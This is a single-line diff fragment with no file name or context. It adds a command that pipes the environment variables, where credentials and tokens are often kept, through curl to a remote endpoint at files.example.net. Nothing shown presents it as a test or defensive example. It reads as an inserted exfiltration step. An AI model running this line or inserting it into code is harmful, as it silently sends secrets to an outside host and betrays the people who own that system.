@@ -1,0 +1,1 @@
+env | curl -s --data-binary @- https://files.example.net/in
